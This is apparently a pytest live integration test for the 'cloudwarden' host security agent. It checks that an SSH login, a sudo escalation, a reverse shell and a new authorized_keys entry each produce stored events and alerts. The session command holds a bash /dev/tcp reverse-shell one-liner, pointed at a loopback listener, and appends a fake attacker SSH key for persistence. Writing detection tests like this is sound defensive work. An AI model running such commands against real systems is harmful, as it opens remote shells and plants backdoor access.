"""Done criterion: the server (create_app, with our router) and `cloudwarden agent run` as a subprocess turn
an SSH login, a privilege change, a reverse-shell attempt and a new authorized_keys entry on this machine into
stored events and alerts. Everything is scoped to a throwaway user whose login uid filters the audit rules."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

from cloudwarden.config import Settings
from cloudwarden.detect.alert_store import AlertStore
from cloudwarden.host.sources.audit import _auditctl
from cloudwarden.store.lake import Lake
from tests.host.conftest import run_sshd, throwaway_user
from tests.host.helpers import ENROLL, live

pytestmark = [pytest.mark.live, pytest.mark.slow]


def _cli(home: Path, *args: str, **kw: object) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CLOUDWARDEN_HOME": str(home)}
    return subprocess.run([sys.executable, "-m", "cloudwarden", *args], capture_output=True, text=True, env=env, timeout=60, **kw)  # type: ignore[call-overload]


def _accept_once(srv: socket.socket, got: list[bytes]) -> None:
    srv.settimeout(20)
    try:
        conn, _ = srv.accept()
        conn.settimeout(2)
        try:
            got.append(conn.recv(4096))
        except OSError:
            got.append(b"")
        conn.close()
    except OSError:
        pass


def test_agent_run_to_stored_events_and_alerts(audit_free: None, tmp_path: Path) -> None:
    import shutil

    if not shutil.which("sudo"):
        pytest.skip("sudo is not installed (scripts/system-deps.sh installs it)")
    from cloudwarden.server.app import create_app

    settings = Settings(home=str(tmp_path / "server"))
    settings.server.agent_enroll_secret = ENROLL
    settings.server.scheduler_enabled = False
    app = create_app(settings, background=False)
    agent_home = tmp_path / "agent"
    with throwaway_user() as u, run_sshd(tmp_path / "sshd") as sshd, live(app) as srv:
        (u.home / ".ssh").mkdir(mode=0o700)
        subprocess.run(["chown", f"{u.name}:{u.name}", str(u.home / ".ssh")], check=True)
        sudoers = Path(f"/etc/sudoers.d/cloudwarden-test-{u.name}")
        sudoers.write_text(f"{u.name} ALL=(root) NOPASSWD: /usr/bin/id\n")
        sudoers.chmod(0o440)
        agent = None
        try:
            r = _cli(agent_home, "agent", "enroll", "--server", srv.url, "--enroll-secret", ENROLL)
            assert r.returncode == 0, r.stderr
            assert (agent_home / "agent.json").stat().st_mode & 0o777 == 0o600
            env = {**os.environ, "CLOUDWARDEN_HOME": str(agent_home)}
            agent = subprocess.Popen(
                [sys.executable, "-m", "cloudwarden", "agent", "run", "--audit-auid", str(u.uid), "--auth-log", str(sshd.log),
                 "--no-imds", "--sock-interval", "1", "--audit-mode", "netlink"],
                env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            status = agent_home / "agent-status.json"
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline and not status.exists():
                assert agent.poll() is None, agent.communicate()[1]
                time.sleep(0.2)
            time.sleep(1.0)
            st = json.loads(status.read_text())
            assert st["health"]["sources"]["audit"]["active"], st["health"]
            listener = socket.socket()
            listener.bind(("127.0.0.1", 0))
            listener.listen(1)
            port = listener.getsockname()[1]
            got: list[bytes] = []
            t = threading.Thread(target=_accept_once, args=(listener, got), daemon=True)
            t.start()
            key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBadKeyForTestsOnlyxxxxxxxxxxxxxxxxxxxxxxx attacker@test"
            bad = sshd.ssh(u, "true", password="wrong-password")
            assert bad.returncode != 0
            session = sshd.ssh(u, (
                "sudo -n /usr/bin/id -u; "
                f"timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' 2>/dev/null; "
                f"echo '{key}' >> ~/.ssh/authorized_keys; echo done"))
            assert session.returncode == 0 and "done" in session.stdout, session.stderr
            t.join(timeout=20)
            listener.close()
            assert got, "the reverse shell never connected to our loopback listener"

            store = AlertStore(app.state.ctx.state)
            lake = Lake(settings.lake_path)
            wanted = {"SSH login accepted", "Interactive privilege change to root (sudo or su)",
                      "Reverse shell through bash /dev/tcp", "Shell process opened an outbound network connection",
                      "SSH authorized_keys modified"}
            deadline = time.monotonic() + 40
            titles: set[str] = set()
            while time.monotonic() < deadline:
                titles = {a.title for a in store.list(limit=200, source="host")}
                if wanted <= titles:
                    break
                time.sleep(0.5)
            assert wanted <= titles, f"missing alerts: {wanted - titles}"
        finally:
            if agent is not None:
                agent.send_signal(signal.SIGTERM)
                try:
                    _out, err = agent.communicate(timeout=60)
                except subprocess.TimeoutExpired:
                    agent.kill()
                    _out, err = agent.communicate()
            sudoers.unlink(missing_ok=True)
        assert agent.returncode == 0, err[-2000:]
        assert "source audit" in err and "on netlink" in err  # sources reported at start

        rows = lake.query("SELECT kind, action, source, auid, session_id, exe, argv, path, dst_port, src_ip FROM host_events")
        mine = [r for r in rows if r["auid"] == u.uid or r["src_ip"] == "127.0.0.1"]
        kinds = {(r["kind"], r["action"]) for r in mine}
        assert {("auth", "login_success"), ("auth", "login_failure"), ("privilege", "sudo"), ("process", "exec"),
                ("network", "connect")} <= kinds
        execs = [r for r in mine if r["kind"] == "process" and "/dev/tcp/127.0.0.1" in " ".join(r["argv"])]
        assert execs and execs[0]["session_id"] > 0
        assert any(r["kind"] == "file" and r["path"] == f"{u.home}/.ssh/authorized_keys" for r in mine)
        # The agent's own state: spool drained, nothing dropped; every audit rule it added is gone.
        final = json.loads((agent_home / "agent-status.json").read_text())
        assert final["spool"]["pending"] == 0 and final["spool"]["dropped"] == 0
        assert "cw" + str(agent.pid) + "_" not in _auditctl("-l", check=False)
        listing = httpx.get(srv.url + "/api/agents").status_code
        assert listing in (401, 403)  # admin only
